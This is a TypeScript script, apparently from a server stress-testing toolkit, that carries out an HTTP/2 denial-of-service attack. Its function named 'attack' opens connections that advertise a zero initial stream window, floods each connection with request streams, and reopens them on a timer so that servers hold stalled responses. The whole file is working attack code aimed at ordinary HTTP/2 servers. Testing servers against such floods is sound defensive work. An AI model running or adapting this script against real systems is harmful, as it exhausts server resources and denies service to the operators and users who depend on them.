import type { Socket } from 'node:net'
import { parseArgs } from 'node:util'
import { endHeaders, endStream, frame, frameTypes, requestFields, uint32 } from '../support/http/raw-http2.ts'
import { keepCrowd } from './crowd.ts'

// HTTP/2 clients with closed windows, so that a server can only send the heads of their responses. When a stream ends, they open another
// one.

const { values } = parseArgs({
  strict: false,
  options: {
    connections: { type: 'string', default: '1' },
    streams: { type: 'string', default: '100' },
    method: { type: 'string', default: 'GET' },
    path: { type: 'string', default: '/' },
  },
})
const streams = Number(values.streams)
/** Streams reopened each second, by all connections together. */
const repeatsPerSecond = 300
const repeatMs = (1_000 * Number(values.connections)) / repeatsPerSecond

const preface = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
const acknowledgement = 0x1
/** SETTINGS_INITIAL_WINDOW_SIZE (RFC 9113 section 6.5.2), 0 here. */
const closedWindow = Buffer.from([0, 4, 0, 0, 0, 0])
const request = requestFields(String(values.method), String(values.path))

let open = 0
let requested = 0
let answered = 0
let reset = 0

keepCrowd(attack, () => ({ streams: open, requested, answered, reset }), { alpn: 'h2' })

function attack(socket: Socket): void {
  let mine = 0
  let next = 1
  const openStream = (): Buffer => {
    mine++
    open++
    requested++
    const id = next
    next += 2
    return frame(frameTypes.headers, endStream | endHeaders, id, request)
  }
  const streamEnded = (): void => {
    mine--
    open--
  }
  readFrames(socket, (type, flags, payload) => {
    if (type === frameTypes.settings && !(flags & acknowledgement))
      socket.write(frame(frameTypes.settings, acknowledgement, 0))
    if (type === frameTypes.ping && !(flags & acknowledgement))
      socket.write(frame(frameTypes.ping, acknowledgement, 0, payload))
    if (type === frameTypes.headers) answered++
    if (type === frameTypes.rstStream) reset++
    const ends = type === frameTypes.headers || type === frameTypes.data ? (flags & endStream) !== 0 : false
    if (ends || type === frameTypes.rstStream) streamEnded()
    if (type === frameTypes.goaway) socket.destroy()
  })
  socket.write(
    Buffer.concat([
      Buffer.from(preface),
      frame(frameTypes.settings, 0, 0, closedWindow),
      // The connection's own window is open, so that each stream's window is the limit.
      frame(frameTypes.windowUpdate, 0, 0, uint32(2 ** 30)),
      ...Array.from({ length: streams }, openStream),
    ]),
  )
  const repeat = setInterval(() => {
    if (mine < streams) socket.write(openStream())
  }, repeatMs)
  socket.once('close', () => {
    clearInterval(repeat)
    open -= mine
  })
}

/** Calls `onFrame` for each frame that has arrived completely. */
function readFrames(socket: Socket, onFrame: (type: number, flags: number, payload: Buffer) => void): void {
  let bytes: Buffer = Buffer.alloc(0)
  socket.on('data', (chunk: Buffer) => {
    bytes = bytes.length === 0 ? chunk : Buffer.concat([bytes, chunk])
    while (bytes.length >= 9 && bytes.length >= 9 + bytes.readUIntBE(0, 3)) {
      const end = 9 + bytes.readUIntBE(0, 3)
      onFrame(bytes.readUInt8(3), bytes.readUInt8(4), bytes.subarray(9, end))
      bytes = bytes.subarray(end)
    }
  })
}
